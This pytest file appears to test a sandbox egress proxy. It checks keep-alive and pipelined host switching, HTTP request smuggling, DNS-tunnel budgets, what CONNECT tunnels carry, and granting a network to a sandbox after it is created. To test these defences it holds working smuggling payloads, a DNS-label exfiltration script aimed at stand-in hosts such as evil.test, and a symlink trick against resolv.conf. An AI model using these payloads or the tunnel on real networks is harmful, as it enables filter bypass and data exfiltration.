def test_connections_per_sandbox_are_bounded(egd, net):
    with make(egd) as sb, make(egd) as other:
        r = sb.exec(["python3", "-c", MANY], timeout_s=60)
        assert r.exit_code == 0, r
        assert int(r.stdout) == 300 - 256, r.stdout
        # another sandbox is not starved meanwhile
        assert "host=pypi.test" in sh(other, "curl -sS -m 10 http://pypi.test/").stdout
        limited = [e for e in tcp(sb) if e["reason"] == "too-many-connections"]
        assert len(limited) == 44 and sb.violations()["counts"]["egress"] == 0


# ---- item 13 of issue 18: every plain-HTTP request on a connection is judged ----

# Runs in the sandbox: each step is one connection to pypi.test's address on
# 8081 (fakenet's keep-alive server, which ignores "Connection: close"), given
# as the parts to send; after each part it reads until a whole response, the
# end of the stream or a reset. Prints one JSON list per connection of what
# each part got back.
KEEPALIVE_CLIENT = r"""
import json, re, socket, sys
for n in sys.argv[2:]:
    socket.gethostbyname(n)  # the stub pins what it answers
ip = socket.gethostbyname("pypi.test")
for step in json.loads(sys.argv[1]):
    # a step that starts with CONNECT goes through "a proxy" at some address instead
    s = socket.create_connection(("203.0.113.10", 3128) if step[0].startswith("CONNECT") else (ip, 8081), timeout=5)
    got = []
    for part in step:
        try:
            s.sendall(part.encode("latin-1"))
        except OSError as e:
            got.append(type(e).__name__)
            break
        data = b""
        try:
            while True:
                m = re.search(rb"Content-Length: (\d+)\r\n\r\n", data)
                if m and len(data) >= m.end() + int(m.group(1)):
                    break
                if data.startswith(b"HTTP/1.1 200 Connection established\r\n\r\n"):
                    break
                chunk = s.recv(65536)
                if not chunk:
                    data += b"<eof>"
                    break
                data += chunk
        except OSError as e:
            data += b"<" + type(e).__name__.encode() + b">"
        got.append(data.decode("latin-1"))
        if data.endswith(b">"):
            break
    s.close()
    print(json.dumps(got))
"""

KA_ALLOW = ["pypi.test:8081", "*.pypi.test:8081", "secure.test:8081"]


def req(host, target="/", extra=""):
    return f"GET {target} HTTP/1.1\r\nHost: {host}\r\n{extra}\r\n"


def keepalive_run(sb, steps, resolve=()):
    r = sb.exec(["python3", "-c", KEEPALIVE_CLIENT, json.dumps(steps), *resolve], timeout_s=60)
    assert r.exit_code == 0, r
    return [json.loads(line) for line in r.stdout.splitlines()]


def test_keepalive_and_pipelined_requests_are_each_judged(egd, net, tier):
    """The proxy used to judge the first request head of a plain-HTTP
    connection and splice the rest: an upstream that ignores
    "Connection: close" (fakenet's keep-alive server, on pypi.test's address)
    then served requests for any host. Seen failing before the fix: the
    server's log held "host": "evil.test" for the keep-alive, the pipelined
    and the absolute-form requests, and the sandbox got "host=evil.test" back."""
    before = len(net.hits(kind="keepalive"))
    with make(egd, tier=tier, allow=KA_ALLOW) as sb:
        got = keepalive_run(sb, [
            # keep-alive: an allowed second request passes, a third for another host does not
            [req("pypi.test"), req("pypi.test", "/2"), req("evil.test")],
            # pipelined in one write
            [req("pypi.test") + req("evil.test")],
            # a later request in absolute form names its host in the URI
            [req("pypi.test"), req("evil.test", "http://evil.test/")],
            # another allowed name on the same address passes; one pinned to another address does not
            [req("pypi.test"), req("files.pypi.test"), req("secure.test")],
            # a later head that names no host, or is not HTTP
            [req("pypi.test"), "GET / HTTP/1.0\r\n\r\n"],
            [req("pypi.test"), "\x16\x03\x01\x00\x05hello"],
        ], resolve=["files.pypi.test", "secure.test"])
        assert "host=pypi.test" in got[0][0] and "host=pypi.test" in got[0][1], got[0]
        assert len(got[0]) == 3 and "keepalive" not in got[0][2], got[0]
        assert all("evil.test" not in g for step in got for g in step), got
        assert "host=files.pypi.test" in got[3][1] and "keepalive" not in got[3][2], got[3]
        assert "keepalive" not in got[4][1] and "keepalive" not in got[5][1], got
        refused = [(e.get("name"), e["reason"]) for e in tcp(sb) if e["decision"] == "deny"]
        assert refused == [("evil.test", "not-allowlisted"), ("evil.test", "not-allowlisted"),
                           ("evil.test", "not-allowlisted"), ("secure.test", "ip-mismatch"),
                           (None, "no-host"), (None, "bad-http")], refused
        admitted = [(e.get("name"), e["reason"]) for e in tcp(sb) if e["decision"] == "allow"]
        assert admitted.count(("pypi.test", "allowlist")) == 6 and ("files.pypi.test", "allowlist") in admitted
        assert sb.violations()["counts"]["egress"] == 6
    hosts = [h["host"] for h in net.hits(kind="keepalive")[before:]]
    assert "evil.test" not in hosts and "secure.test" not in hosts, hosts
    assert hosts.count("pypi.test") >= 4 and "files.pypi.test" in hosts, hosts


def smuggle(name, first, second):
    """A request whose content, framed one way, is a second request, for evil.test/NAME."""
    second = second.replace("/evil", "/" + name)
    return first.replace("{n}", str(len(second))) + second


EVIL = req("evil.test", "/evil")
SMUGGLING = {
    # content on GET: a server that ignores it reads the content as the next request (CL.0)
    "get-with-content": ("GET / HTTP/1.1\r\nHost: pypi.test\r\nContent-Length: {n}\r\n\r\n", EVIL),
    # Content-Length and Transfer-Encoding both: which one frames the content?
    "cl-and-te": ("POST / HTTP/1.1\r\nHost: pypi.test\r\nContent-Length: {n}\r\nTransfer-Encoding: chunked\r\n\r\n",
                  "0\r\n\r\n" + EVIL),
    # two lengths: the server takes the first, 0
    "two-lengths": ("POST / HTTP/1.1\r\nHost: pypi.test\r\nContent-Length: 0\r\nContent-Length: {n}\r\n\r\n", EVIL),
    # bare LF: the proxy and the server must agree on where lines end
    "bare-lf": ("GET / HTTP/1.1\nHost: pypi.test\n\n", "GET /evil HTTP/1.1\nHost: evil.test\n\n"),
    # obsolete line folding
    "obs-fold": ("POST / HTTP/1.1\r\nHost: pypi.test\r\nX-A: a\r\n Content-Length: 0\r\nContent-Length: {n}\r\n\r\n",
                 EVIL),
    # a chunked body whose trailer names another host
    "trailer-host": ("POST / HTTP/1.1\r\nHost: pypi.test\r\nTransfer-Encoding: chunked\r\n\r\n",
                     "0\r\nHost: evil.test\r\n\r\n" + EVIL),
}


def test_request_smuggling_is_refused(egd, net, tier):
    """Heads that a server could frame otherwise than the proxy are refused
    (403, bad-http) before anything reaches the upstream; so is a stream whose
    chunked framing cannot be read one way only. Seen failing before the fix:
    the keep-alive server served evil.test for get-with-content, cl-and-te,
    two-lengths, bare-lf and trailer-host."""
    before = len(net.hits(kind="keepalive"))
    with make(egd, tier=tier, allow=KA_ALLOW) as sb:
        got = keepalive_run(sb, [[smuggle(k, *v)] for k, v in SMUGGLING.items()])
        hits = net.hits(kind="keepalive")[before:]
        reached = [h["request"].split()[1][1:] for h in hits if h["host"] == "evil.test"]
        assert reached == [], f"smuggled to evil.test: {reached}"
        for name, g in zip(SMUGGLING, got):
            if name == "trailer-host":  # the head is fine; the trailer ends the stream
                assert "keepalive" not in g[0] and g[0].endswith(">"), (name, g)
                continue
            assert g[0].startswith("HTTP/1.1 403") and "(bad-http)" in g[0], (name, g)
        t = [(e.get("name"), e["decision"], e["reason"]) for e in tcp(sb)]
        assert t == [(None, "deny", "bad-http")] * (len(SMUGGLING) - 1) + [
            (None, "deny", "bad-http"), ("pypi.test", "allow", "allowlist")], t
        assert sb.violations()["counts"]["egress"] == len(SMUGGLING)
    assert [h for h in net.hits(kind="keepalive")[before:] if h["host"] != "pypi.test"] == []


# ---- item 14 of issue 18: a budget of self-chosen DNS names ----

# The red team's tunnel: 600 bytes out through names the sandbox chooses, each
# under the old thresholds (labels < 50, names < 100, < 50 questions a second).
SLOW_TUNNEL = r"""
import base64, os, socket, sys, time
suffix = sys.argv[1]
data = base64.b32encode(os.urandom(600)).decode().rstrip("=").lower()
chunks = [data[i:i + 80] for i in range(0, len(data), 80)]
for i, c in enumerate(chunks):
    name = "s%02d.%s.%s.%s" % (i, c[:40], c[40:], suffix)
    assert len(name) < 100 and max(len(l) for l in name.split(".")) < 50
    try:
        socket.getaddrinfo(name, 80, socket.AF_INET)
    except OSError:
        pass
    time.sleep(0.05)
print(len(chunks))
"""

# What ordinary work asks: a few fixed hosts, again and again.
ORDINARY = r"""
import socket, sys, time
for _ in range(20):
    for n in sys.argv[1:]:
        try:
            socket.getaddrinfo(n, 443, socket.AF_INET)
        except OSError:
            pass
    time.sleep(0.1)
print("ok")
"""


def dns_alerts(sb):
    return [e for e in sb.events() if e["type"] == "alert" and e["source"] == "dns"]


@pytest.mark.parametrize("mode", ["wildcard", "open"])
def test_dns_tunnel_under_the_old_thresholds_is_flagged(egd, net, tier, mode):
    """600 bytes left through 12 names under an allowed wildcard, or in open
    mode, with 0 alerts: every label, name and rate was under the long-name and
    rate heuristics. Seen failing before the fix: no alert at all (the
    assertion on "dns-budget"), while the fake upstream received every name."""
    allow, suffix = (["*.pypi.test:80"], "pypi.test") if mode == "wildcard" else ([], "tunnel.test")
    with make(egd, tier=tier, allow=allow, mode="allowlist" if mode == "wildcard" else "open") as sb:
        r = sb.exec(["python3", "-c", SLOW_TUNNEL, suffix], timeout_s=60)
        assert r.exit_code == 0 and int(r.stdout) == 12, r
        assert len([h for h in net.hits(kind="dns") if h["name"].endswith("." + suffix)
                    and h["name"].startswith("s")]) >= 12, "the tunnel's names did not reach the upstream"
        alerts = dns_alerts(sb)
        assert [a["rule"] for a in alerts] == ["dns-budget"], alerts
        a = alerts[0]
        assert a["names"] >= 6 and a["bytes"] > 512 and a["window_s"] == 60, a
        assert (a["budget_names"], a["budget_bytes"], a["action"]) == (64, 512, "alert"), a
        assert "last: s" in a["excerpt"], a
        assert sb.violations()["counts"]["egress"] == 0  # an alert, not a violation, unless configured


def test_ordinary_lookups_stay_under_the_dns_budget(egd, net, tier):
    """A few fixed hosts asked again and again (pip, git): nothing to flag,
    under a wildcard or in open mode."""
    with make(egd, tier=tier, allow=["*.pypi.test", "pypi.test", "secure.test"]) as sb:
        r = sb.exec(["python3", "-c", ORDINARY, "pypi.test", "files.pypi.test", "secure.test"], timeout_s=60)
        assert r.stdout.strip() == "ok", r
        assert "host=pypi.test" in sh(sb, "curl -sS -m 10 http://pypi.test/").stdout
        assert dns_alerts(sb) == []
    with make(egd, tier=tier, allow=[], mode="open") as sb:
        r = sb.exec(["python3", "-c", ORDINARY, "pypi.test", "files.pypi.test", "secure.test", "evil.test",
                     "www.evil.test"], timeout_s=60)
        assert r.stdout.strip() == "ok", r
        assert dns_alerts(sb) == []


def test_dns_budget_refuse_mode(shared_dir, net, tier):
    """dns_budget = …,action=refuse: new names beyond the budget are REFUSED
    (they never reach the upstream) and each is an egress violation; names
    already resolved in the window still are."""
    state = os.path.join(shared_dir, "state")
    d = cordonlib.Daemon(shared_dir, "--state-dir", state, "--dns-upstream", fakenet.DNS_IP,
                         "--dns-budget", "names=4,bytes=400,window=60s,action=refuse")
    try:
        with make(d, tier=tier, allow=["*.pypi.test:80", "pypi.test:80"]) as sb:
            r = sh(sb, "for n in a b c d e f a; do getent ahostsv4 $n.pypi.test >/dev/null; done; "
                       "getent ahostsv4 pypi.test | head -1")
            assert r.stdout.split()[:1] == ["203.0.113.10"], r  # an exact entry: never counted
            dns = [(e["name"], e["decision"], e["reason"]) for e in egress(sb) if e["proto"] == "dns"]
            refused = {n for n, dec, why in dns if why == "dns-budget"}
            assert refused == {"e.pypi.test", "f.pypi.test"}, dns
            assert all(dec == "deny" for n, dec, why in dns if why == "dns-budget"), dns
            assert {n for n, dec, why in dns if dec == "allow"} == {"a.pypi.test", "b.pypi.test", "c.pypi.test",
                                                                    "d.pypi.test", "pypi.test"}, dns
            assert sb.violations()["counts"]["egress"] == sum(why == "dns-budget" for _, _, why in dns)
            alerts = dns_alerts(sb)
            assert alerts and alerts[0]["rule"] == "dns-budget" and alerts[0]["action"] == "refuse", alerts
            assert alerts[0]["names"] == 5, alerts
    finally:
        assert d.stop() == 0, d.output()
    asked = {h["name"] for h in net.hits(kind="dns")}
    assert "a.pypi.test" in asked and not {"e.pypi.test", "f.pypi.test"} & asked, asked


def test_one_shot_run_has_the_dns_budget(shared_dir, net, tier):
    """`cordon run` counts the same budget ($CORDON_DNS_BUDGET, as cordond's dns_budget)."""
    state = os.path.join(shared_dir, "state")
    env = dict(os.environ, CORDON_DNS_UPSTREAM=fakenet.DNS_IP, CORDON_STATE_DIR=state)
    argv = [cordonlib.CORDON_BIN, "run", "--json", "--tier", tier, "--net", "allow=*.pypi.test:80", "--",
            "python3", "-c", SLOW_TUNNEL, "pypi.test"]
    p = subprocess.run(argv, capture_output=True, text=True, env=env, timeout=120)
    assert p.returncode == 0 and p.stdout.strip() == "12", p
    assert "egress alert: dns-budget:" in p.stderr, p.stderr
    assert json.loads(p.stderr.strip().splitlines()[-1])["violations"]["egress"] == 0
    p = subprocess.run(argv, capture_output=True, text=True, env=dict(env, CORDON_DNS_BUDGET="names=3,action=refuse"),
                       timeout=120)
    assert p.returncode == 0, p
    # 9 names refused (glibc asks again after a REFUSED: each question is one violation)
    assert json.loads(p.stderr.strip().splitlines()[-1])["violations"]["egress"] >= 9, p.stderr
    p = subprocess.run(argv, capture_output=True, text=True, env=dict(env, CORDON_DNS_BUDGET="names=999"), timeout=60)
    assert p.returncode == 125 and "CORDON_DNS_BUDGET: names=999" in p.stderr, p.stderr


CONNECT_TLS = r"""
import socket, ssl, sys
out = []
for sni in sys.argv[1:]:
    s = socket.create_connection(("203.0.113.10", 3128), timeout=5)
    s.sendall(b"CONNECT secure.test:443 HTTP/1.1\r\nHost: secure.test:443\r\n\r\n")
    assert s.recv(100).startswith(b"HTTP/1.1 200")
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    try:
        t = ctx.wrap_socket(s, server_hostname=sni)
        t.sendall(b"GET / HTTP/1.1\r\nHost: %s\r\n\r\n" % sni.encode())
        out.append(t.recv(200).split(b"\r\n\r\n", 1)[-1].decode().strip())
    except OSError as e:
        out.append(type(e).__name__)
print("|".join(out))
"""


def test_what_a_connect_tunnel_carries_is_judged(egd, net, tier):
    """A CONNECT to a name on the list used to be spliced as it was: plain
    HTTP inside it could name any host on that server, and a ClientHello any
    SNI. Seen failing before the fix: the keep-alive server served evil.test
    through "CONNECT pypi.test:8081", and the TLS server answered a
    ClientHello for evil.test through "CONNECT secure.test:443"."""
    before = len(net.hits(kind="keepalive"))
    with make(egd, tier=tier, allow=KA_ALLOW + ["secure.test:443"]) as sb:
        tunnel = "CONNECT pypi.test:8081 HTTP/1.1\r\nHost: pypi.test:8081\r\n\r\n"
        got = keepalive_run(sb, [[tunnel, req("pypi.test"), req("pypi.test", "/2"), req("evil.test")],
                                 [tunnel, req("evil.test")],
                                 [tunnel, req("secure.test")],
                                 [tunnel, "SSH-2.0-OpenSSH_9.6\r\n"]])
        r = sb.exec(["python3", "-c", CONNECT_TLS, "secure.test", "evil.test"], timeout_s=60)
        out = r.stdout.strip().split("|")
        served = [g.rsplit("host=", 1)[-1].strip() for step in got for g in step if "keepalive" in g]
        leaked = [h for h in served if h != "pypi.test"] + (["tls:evil.test"] if "hello" in out[-1] else [])
        assert leaked == [], f"reached through a tunnel: {leaked}"
        assert served == ["pypi.test", "pypi.test"], got
        assert len(got[3]) == 2 and "keepalive" not in got[3][1], got[3]  # not HTTP: passed as it is
        assert out[0] == "hello from 203.0.113.11:443 host=secure.test", r
        refused = [(e.get("name"), e.get("via"), e["reason"]) for e in tcp(sb) if e["decision"] == "deny"]
        assert refused == [("evil.test", "host", "not-allowlisted"), ("evil.test", "host", "not-allowlisted"),
                           ("secure.test", "host", "ip-mismatch"), ("evil.test", "sni", "not-allowlisted")], refused
    hosts = [h["host"] for h in net.hits(kind="keepalive")[before:]]
    assert "evil.test" not in hosts and "secure.test" not in hosts and hosts.count("pypi.test") == 2, hosts


def test_one_shot_run_judges_every_request(shared_dir, net, tier):
    """`cordon run` runs the same proxy: a keep-alive request for another host is refused there too."""
    state = os.path.join(shared_dir, "state")
    env = dict(os.environ, CORDON_DNS_UPSTREAM=fakenet.DNS_IP, CORDON_STATE_DIR=state)
    before = len(net.hits(kind="keepalive"))
    steps = json.dumps([[req("pypi.test"), req("evil.test")]])
    p = subprocess.run([cordonlib.CORDON_BIN, "run", "--json", "--tier", tier, "--net", "allow=pypi.test:8081", "--",
                        "python3", "-c", KEEPALIVE_CLIENT, steps], capture_output=True, text=True, env=env, timeout=60)
    assert p.returncode == 0, p.stderr
    got = json.loads(p.stdout.splitlines()[0])
    assert "host=pypi.test" in got[0] and "keepalive" not in got[1], got
    assert json.loads(p.stderr.strip().splitlines()[-1])["violations"]["egress"] == 1, p.stderr
    assert [h["host"] for h in net.hits(kind="keepalive")[before:]] == ["pypi.test"]


def host_if_of(sb):
    return sb.info()["network"]["interface"]


def test_a_none_sandbox_is_given_a_network_later(egd, net):
    """The setup phase runs with no network at all; then the agent phase gets an allowlist. The
    sandbox's own namespace gains eth0 (its processes hold no CAP_NET_ADMIN there, so they cannot
    change it), its resolv.conf names the stub, and the interface goes with the sandbox."""
    with Sandbox.create(endpoint=egd.endpoint, network="none") as sb:
        r = sh(sb, "tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' '; curl -sS -m 5 http://203.0.113.10/")
        assert r.stdout.split() == ["lo"] and r.exit_code != 0, r  # nothing reachable
        res = sb.set_network(mode="allowlist", allow=["pypi.test:80"])
        assert res["mode"] == "allowlist" and res["allow"] == ["pypi.test:80"], res
        ev = [e for e in sb.events() if e["type"] == "network"]
        assert ev and ev[-1]["given"] is True and "resolv_conf" not in ev[-1], ev
        host_if = host_if_of(sb)
        assert os.path.exists(f"/sys/class/net/{host_if}"), host_if
        r = sh(sb, "grep nameserver /etc/resolv.conf; curl -sS -m 10 http://pypi.test/; echo; "
                   "curl -sSk -m 10 https://secure.test/")
        assert r.stdout.startswith("nameserver 198.1") and "host=pypi.test" in r.stdout, r
        assert "203.0.113.11" not in r.stdout, r  # off the list: refused as in any allowlist sandbox
        assert [(e["name"], e["decision"]) for e in tcp(sb)] == [("pypi.test", "allow")], tcp(sb)
        r = sh(sb, "ip link set eth0 down; ip addr add 10.1.2.3/8 dev eth0; ip -o addr show eth0")
        assert r.stderr.count("Operation not permitted") == 2, r
        assert "state UP" in sh(sb, "ip -o link show eth0").stdout and "10.1.2.3" not in r.stdout, r
        # Given once: the next change is an ordinary policy change.
        assert sb.set_network(mode="allowlist", allow=[])["generation"] == 2
        assert sh(sb, "curl -sS -m 5 http://pypi.test/").exit_code != 0
    cordonlib.wait_for(lambda: not os.path.exists(f"/sys/class/net/{host_if}"), timeout=LEAK_TIMEOUT,
                       what=f"{host_if} removed with the sandbox")


@pytest.fixture
def etc_image(oci_layout):
    """An image whose /etc the sandbox's root owns (the host image's is the host's: read-only)."""
    from test_images import busybox_layer, cordon
    lay = oci_layout()
    lay.tag(lay.new_image([busybox_layer()], config={"Env": ["PATH=/bin"]}), "v1")
    ref = f"oci:{lay.path}:v1"
    assert cordon("image", "pull", ref).returncode == 0
    yield ref
    cordon("image", "rm", ref)


def test_a_resolv_conf_the_agent_replaced_is_left_alone(egd, net, etc_image):
    """An agent that put a FIFO or a symlink at /etc/resolv.conf (writable_system) neither hangs
    cordond's loop nor steers where the resolver's file is bound: the network is given, the path
    left, and the event says why. Resolved with symlinks followed (container.c), the bind went over
    the symlink's target, wherever the agent pointed it (a file a verifier reads): this test failed."""
    with Sandbox.create(endpoint=egd.endpoint, network="none", image=etc_image, writable_system=True) as sb:
        assert sh(sb, "rm -f /etc/resolv.conf && mkfifo /etc/resolv.conf").exit_code == 0
        t0 = time.monotonic()
        sb.set_network(mode="allowlist", allow=["pypi.test:80"])
        assert time.monotonic() - t0 < 1.5
        ev = [e for e in sb.events() if e["type"] == "network"][-1]
        assert ev["given"] and "left as it was" in ev["resolv_conf"], ev
    with Sandbox.create(endpoint=egd.endpoint, network="none", image=etc_image, writable_system=True) as sb:
        assert sh(sb, "rm -f /etc/resolv.conf && echo mine > /tmp/r && ln -s /tmp/r /etc/resolv.conf").exit_code == 0
        sb.set_network(mode="allowlist", allow=["pypi.test:80"])
        ev = [e for e in sb.events() if e["type"] == "network"][-1]
        assert ev["resolv_conf"] == "/etc/resolv.conf left as it was: a symlink", ev
        assert sh(sb, "cat /tmp/r").stdout == "mine\n"
        # The stub answers whatever address the agent's resolver asks on port 53.
        r = sh(sb, "nslookup pypi.test 192.0.2.53")
        assert "203.0.113.10" in r.stdout, r


@pytest.mark.parametrize("tier", ["process", pytest.param("microvm", marks=pytest.mark.needs_vm)])
def test_a_tier_that_cannot_be_given_a_network_says_so(egd, net, tier):
    with Sandbox.create(endpoint=egd.endpoint, network="none", tier=tier) as sb:
        with pytest.raises(InvalidArgument) as e:
            sb.set_network(mode="allowlist", allow=["pypi.test:80"])
        assert f"a {tier} sandbox created with network 'none' cannot get a network later" in str(e.value)
        assert "'allowlist' and an empty list" in str(e.value)
        assert sb.exec(["true"]).exit_code == 0  # nothing changed


def test_a_network_given_later_survives_a_restart(shared_dir, net):
    state = os.path.join(shared_dir, "state")
    args = ("--state-dir", state, "--dns-upstream", fakenet.DNS_IP)
    d = cordonlib.Daemon(shared_dir, *args, keep=True)
    try:
        sb = Sandbox.create(endpoint=d.endpoint, network="none")
        sb.set_network(mode="allowlist", allow=["pypi.test:80"])
        host_if = host_if_of(sb)
    finally:
        d.kill9()
    d2 = cordonlib.Daemon(shared_dir, *args)
    try:
        sb2 = Sandbox.connect(sb.id, endpoint=d2.endpoint)
        assert host_if_of(sb2) == host_if
        assert "host=pypi.test" in sh(sb2, "curl -sS -m 10 http://pypi.test/").stdout
        sb2.kill()
    finally:
        code = d2.stop()
    assert code == 0, d2.output()
    assert not os.path.exists(f"/sys/class/net/{host_if}")


def test_cli_and_async_sdk_give_a_network(egd, net):
    from cordon import AsyncSandbox
    env = dict(os.environ, CORDON_SOCKET=egd.socket)
    with Sandbox.create(endpoint=egd.endpoint, network="none") as sb:
        p = subprocess.run([cordonlib.CORDON_BIN, "update", sb.id, "--network", "allowlist", "--allow", "pypi.test:80",
                            "--label", "phase=agent"], env=env, capture_output=True, text=True, timeout=30)
        assert p.returncode == 0, p.stderr
        net_answer, info = [json.loads(x) for x in p.stdout.splitlines()]
        assert net_answer["allow"] == ["pypi.test:80"] and info["labels"] == {"phase": "agent"}, p.stdout
        assert "host=pypi.test" in sh(sb, "curl -sS -m 10 http://pypi.test/").stdout
        p = subprocess.run([cordonlib.CORDON_BIN, "update", sb.id, "--allow", "x.test"], env=env,
                           capture_output=True, text=True, timeout=30)
        assert p.returncode == 125 and "--allow needs --network" in p.stderr, p

    async def agent_phase():
        async with await AsyncSandbox.create(endpoint=egd.endpoint, network="none") as asb:
            res = await asb.set_network(mode="allowlist", allow=["pypi.test:80"])
            assert res["mode"] == "allowlist", res
            r = await asb.exec(["curl", "-sS", "-m", "10", "http://pypi.test/"])
            assert "host=pypi.test" in r.stdout, r

    asyncio.run(agent_phase())
